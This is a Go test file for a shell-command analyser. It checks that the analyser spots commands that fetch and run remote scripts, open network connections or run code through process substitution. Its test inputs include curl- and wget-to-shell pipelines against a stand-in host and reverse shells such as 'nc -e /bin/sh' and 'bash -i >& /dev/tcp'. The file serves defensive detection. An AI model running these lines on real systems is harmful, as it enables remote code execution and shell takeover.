package shell

import "testing"

func TestReachOf(t *testing.T) {
	for line, want := range map[string]Reach{
		`curl -s http://kit.test/setup | sh`:                                 {Fetches: true, RunsFetched: true},
		`sh -c "$(curl -fsSL http://kit.test/setup)"`:                        {Fetches: true, RunsFetched: true},
		`bash <(wget -qO- http://kit.test/setup)`:                            {Fetches: true, RunsFetched: true},
		`eval "$(wget -qO- http://kit.test/setup)"`:                          {Fetches: true, RunsFetched: true},
		`env A=b curl http://kit.test/setup | base64 -d | bash -s -- a`:      {Fetches: true, RunsFetched: true},
		`curl -o /tmp/kit.sh http://kit.test/setup && sh /tmp/kit.sh`:        {Fetches: true, RunsFetched: true},
		`wget http://kit.test/a.sh; chmod +x a.sh; ./a.sh`:                   {Fetches: true, RunsFetched: true},
		`curl http://kit.test/a.js > a.js; node a.js`:                        {Fetches: true, RunsFetched: true},
		`git clone http://kit.test/kit && bash setup.sh`:                     {Fetches: true},
		`curl http://kit.test/kit.tgz | tar xz -C vendor`:                    {Fetches: true},
		`bash -c 'curl http://kit.test/kit.css > kit.css'`:                   {Fetches: true},
		`busybox wget http://kit.test/kit.css`:                               {Fetches: true},
		`rsync -a kit.test:kit vendor`:                                       {Fetches: true},
		`nc -e /bin/sh 192.0.2.7 4444`:                                       {Connects: true},
		`bash -i >& /dev/tcp/192.0.2.7/4444 0>&1`:                            {Connects: true},
		`exec 3<>/dev/tcp/192.0.2.7/80; cat <&3`:                             {Connects: true},
		`python3 -c "import urllib"`:                                         {Interprets: true},
		`./bin/tool --register`:                                              {Interprets: true},
		`cd lib && ../node_modules/.bin/tsc && /bin/ls && node ./install.js`: {},
		`sh setup.sh; ./setup.sh; node-gyp rebuild`:                          {},
		`rsync -a kit vendor; curl --version; python3; echo nc`:              {},
	} {
		if got := ReachOf(Commands(line, nil, nil)); got != want {
			t.Errorf("%s\ngot  %+v\nwant %+v", line, got, want)
		}
	}
}

// Bash runs the commands of <(…) and gives a file of what they write.
func TestProcessSubstitutions(t *testing.T) {
	for _, line := range []string{
		`cat <(osascript -e beep)`,
		`bash <(echo b3Nhc2NyaXB0IC1lIGJlZXA= | base64 -d)`,
		`source <(printf 'osa%s -e beep' script)`,
		`cat < <(osascript -e beep)`,
	} {
		if commands := Commands(line, nil, nil); !Runs(commands, "osascript") {
			t.Errorf("%s: %q", line, commands)
		}
	}
	if commands := Commands(`cat <(echo osascript)`, nil, nil); Runs(commands, "osascript") {
		t.Errorf("what is only written runs: %q", commands)
	}
}
